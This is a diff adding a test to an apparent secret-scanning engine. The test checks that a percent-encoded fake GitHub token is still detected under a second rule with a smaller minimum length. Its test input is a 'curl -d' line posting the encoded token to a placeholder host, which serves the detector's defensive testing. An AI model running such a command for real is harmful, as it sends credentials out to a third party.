@@ -129,3 +129,19 @@ def test_quiet_runs_are_not_decoded_again_and_runs_with_findings_always_are(monk
     monkeypatch.setattr(engine, "QUIET_BYTES", 0)
     scanner.scan(b"data: " + benign + b"\n")
     assert len(scanner._quiet) <= 1
+
+
+def test_a_run_quiet_for_one_encoded_rule_is_still_decoded_for_another():
+    """The quiet-run memory is per rule setting: a percent-encoded token shorter than one
+    rule's min_len is not worth reporting for THAT rule, but another rule of the same
+    decoder with a smaller min_len must still decode it (operators may add such rules)."""
+    from dataclasses import replace
+    base = next(r for r in RULES if r.id == "encoded-percent")
+    rules = [r for r in RULES if r.id != "encoded-percent"]
+    rules += [replace(base, id="encoded-percent-long", min_len=4096), base]
+    scanner = Scanner(rules, cache=False)
+    encoded = percent(b"token " + fakes.gh_token())
+    data = b"curl -d " + encoded + b" https://x\n"
+    for _ in range(2):                   # the first scan, and again with the memory filled
+        found = scanner.scan(data).findings
+        assert [(f.rule_id, f.encoding) for f in found] == [("github-token", ("percent",))]
